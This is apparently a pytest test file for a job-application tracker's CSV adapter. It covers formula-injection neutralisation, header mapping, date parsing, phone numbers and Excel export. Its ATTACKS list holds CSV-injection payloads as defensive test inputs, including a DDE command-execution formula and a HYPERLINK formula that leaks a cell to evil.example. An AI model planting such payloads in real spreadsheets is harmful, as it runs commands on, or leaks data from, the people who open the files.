"""Applications as CSV: no cell followup writes is a formula to a spreadsheet, and what it writes
reads back the same."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from followup.adapters import spreadsheet

# What a spreadsheet runs as a formula: a cell starting with one of these (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",  # already quoted once: it must not lose its quote on the way back
    "+44 20 7946 0958",
]


def written(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    spreadsheet.write(out, rows)
    return out.getvalue()


def test_no_written_cell_starts_a_formula_when_read_by_pythons_csv() -> None:
    rows = [{column: attack for column in spreadsheet.COLUMNS} for attack in ATTACKS]
    cells = [cell for row in list(csv.reader(io.StringIO(written(rows))))[1:] for cell in row]
    assert len(cells) == len(ATTACKS) * len(spreadsheet.COLUMNS)
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    assert "'=cmd|' /C calc'!A0" in cells and "'+44 20 7946 0958" in cells


def test_read_takes_off_exactly_the_quote_write_added() -> None:
    rows = [
        {"company": attack.strip(), "role": "Engineer", "interviewer_phone": attack.strip()}
        for attack in ATTACKS
    ]
    text = written(rows)
    assert "'+44 20 7946 0958,Engineer" in text and "''=1+1," in text
    sheet = spreadsheet.read(text)
    assert [row["company"] for _, row in sheet.rows] == [attack.strip() for attack in ATTACKS]
    assert sheet.rows[-1][1]["interviewer_phone"] == "+44 20 7946 0958"


def test_read_takes_one_quote_off_a_formula_and_none_off_other_text() -> None:
    sheet = spreadsheet.read("company,role,notes\n'Quoted Ltd,'-,''@x\n")
    assert sheet.rows == [(2, {"company": "'Quoted Ltd", "role": "-", "notes": "'@x"})]


@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1))
def test_neutralised_then_restored_is_the_cell(cell: str) -> None:
    safe = spreadsheet.neutralised(cell)
    assert not safe.startswith(FORMULA_STARTS)
    assert spreadsheet.restored(safe) == cell


# -- other trackers' headers, placeholders and dates; phones; Excel (issue #13) ---------------


@pytest.mark.parametrize(
    ("header", "key"),
    [
        ("companyName", "company name"),
        ("company_name", "company name"),
        ("Company Name", "company name"),
        ("  COMPANY-name ", "company name"),
        ("JobTitle", "job title"),
        ("appliedDate", "applied date"),
        ("follow_up_at", "follow up at"),
        ("statusName", "status name"),
        ("JobURL", "job url"),
        ("URL", "url"),
        ("interview_at", "interview at"),
    ],
)
def test_headers_compare_as_words_however_joined(header: str, key: str) -> None:
    assert spreadsheet.header_key(header) == key


def test_every_trackers_headers_find_their_columns() -> None:
    sheet = spreadsheet.read(
        "companyName,title,listName,createdAt,Job URL,appliedDate,statusDate,Archived,index\n"
        "Acme,Engineer,Offer,2025-01-02T10:00:00.000Z,https://a.example,2025-01-03,,FALSE,1\n"
    )
    meanings = dict(sheet.columns)
    assert [meanings[h] for h in ("companyName", "title", "listName", "appliedDate")] == [
        "company",
        "role",
        "stage",
        "applied_at",
    ]
    assert meanings["createdAt"] == "kept:createdAt" and meanings["index"].startswith("ignored:")
    assert sheet.unknown == []
    assert sheet.rows == [
        (
            2,
            {
                "company": "Acme",
                "role": "Engineer",
                "stage": "offer",
                "kept:createdAt": "2025-01-02",
                "kept:Job URL": "https://a.example",
                "applied_at": "2025-01-03",
            },
        )
    ]


def test_placeholders_are_no_value_and_a_placeholder_followup_wrote_is_one() -> None:
    text = written([{"company": "N/A", "role": "-", "notes": "\u2014"}])
    assert "'N/A,'-,,,,,,,,,,,,,'\u2014" in text  # quoted, as a formula would be
    assert spreadsheet.read(text).rows[0][1] == {"company": "N/A", "role": "-", "notes": "\u2014"}
    placeholders = spreadsheet.read("company,role,location,notes\nAcme,Dev, n/a ,-\n")
    assert placeholders.rows == [(2, {"company": "Acme", "role": "Dev"})]


@pytest.mark.parametrize(
    ("text", "order", "iso"),
    [
        ("2025-01-14", None, "2025-01-14"),
        ("2025-01-14T09:32:11.482Z", None, "2025-01-14"),
        ("2025-01-14T23:30:00Z", None, "2025-01-14"),
        ("2025-01-14 10:22", None, "2025-01-14"),
        ("14.01.2025", None, "2025-01-14"),
        ("Jan 14, 2025", None, "2025-01-14"),
        ("14 January 2025", None, "2025-01-14"),
        ("01/14/2025", None, "2025-01-14"),  # the numbers say month first
        ("14/01/2025", None, "2025-01-14"),  # and day first
        ("01/08/2025", "mdy", "2025-01-08"),
        ("01/08/2025", "dmy", "2025-08-01"),
        ("01/08/2025", None, None),  # either: kept as written
        ("next tuesday", None, None),
        ("2025-13-40", None, None),
    ],
)
def test_days_in_the_trackers_formats(text: str, order: str | None, iso: str | None) -> None:
    assert spreadsheet.day(text, "UTC", order) == iso


def test_a_moment_with_an_offset_is_its_day_in_the_zone_given() -> None:
    assert spreadsheet.day("2025-01-14T23:30:00Z", "Europe/Berlin") == "2025-01-15"
    assert spreadsheet.day("2025-01-14T23:30:00-05:00", "UTC") == "2025-01-15"


def test_a_column_of_slashed_dates_is_read_in_the_order_its_clear_dates_say() -> None:
    text = "company,role,Applied Date,Status Date\nA,B,01/08/2025,03/02/2025\nC,D,01/13/2025,\n"
    rows = [row for _, row in spreadsheet.read(text).rows]
    assert rows[0]["applied_at"] == "2025-01-08"  # month first, as 01/13 says
    assert rows[0]["kept:Status Date"] == "03/02/2025"  # nothing in its column says: as is


def test_an_unknown_status_or_source_is_kept_and_archived_closes_an_open_application() -> None:
    sheet = spreadsheet.read(
        "company,role,Status,source,Archived\n"
        "A,B,On Hold,LinkedIn,FALSE\n"
        "C,D,Referral Requested,Referral,TRUE\n"
        "E,F,Rejected,,TRUE\n"
        "G,H,,agency,\n"  # an agency's application needs its contact, which has no column
    )
    assert [row for _, row in sheet.rows] == [
        {"company": "A", "role": "B", "kept:Status": "On Hold", "kept:source": "LinkedIn"},
        {
            "company": "C",
            "role": "D",
            "kept:Status": "Referral Requested",
            "source": "referral",
            "stage": "closed",
        },
        {"company": "E", "role": "F", "stage": "rejected"},
        {"company": "G", "role": "H", "kept:source": "agency"},
    ]


def test_a_plain_phone_number_is_written_as_a_tel_uri_and_read_back() -> None:
    phones = ["+44 20 7946 0958", "+442079460958", "020 7946 0958", "+1 (555) 010-0199"]
    text = written([{"company": "A", "role": "B", "interviewer_phone": p} for p in phones])
    column = spreadsheet.COLUMNS.index("interviewer_phone")
    cells = [row[column] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert cells == [
        "tel:+44-20-7946-0958",
        "tel:+442079460958",
        "020 7946 0958",
        "'+1 (555) 010-0199",  # not a plain number: quoted like any formula
    ]
    import phonenumbers

    assert phonenumbers.parse(cells[0]) == phonenumbers.parse(phones[0], None)
    read_back = [row["interviewer_phone"] for _, row in spreadsheet.read(text).rows]
    assert read_back == phones


@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1))
def test_a_phone_cell_neutralised_then_restored_is_the_cell(cell: str) -> None:
    for candidate in (cell, f"+44 {cell}", f"tel:{cell}", f"'tel:+{cell}"):
        safe = spreadsheet.neutralised(candidate, phone=True)
        assert not safe.startswith(FORMULA_STARTS)
        assert spreadsheet.restored(safe, phone=True) == candidate


def test_excel_gets_a_byte_order_mark_and_the_same_rows() -> None:
    rows = [{"company": "Müller & Søn", "role": "Ingénieur"}]
    out = io.StringIO()
    spreadsheet.write(out, rows, excel=True)
    assert out.getvalue().startswith("\ufeffcompany,role,") and out.getvalue()[1:] == written(rows)
    assert spreadsheet.read(out.getvalue()).rows == [
        (2, {"company": "Müller & Søn", "role": "Ingénieur"})
    ]


def test_the_day_applied_is_its_column_whatever_the_tracker_calls_it() -> None:
    for header in ("applied_at", "appliedDate", "Applied Date", "Date Applied", "Applied On"):
        [(_, row)] = spreadsheet.read(f"company,role,{header}\nAcme,Dev,2025-01-07\n").rows
        assert row == {"company": "Acme", "role": "Dev", "applied_at": "2025-01-07"}, header
    # A cell that is no day is not lost: it goes to the notes, under Date Applied.
    [(_, row)] = spreadsheet.read("company,role,Applied Date\nAcme,Dev,last spring\n").rows
    assert row == {"company": "Acme", "role": "Dev", "kept:Date Applied": "last spring"}
    assert spreadsheet.destination("appliedDate", "applied_at").startswith("applied_at")
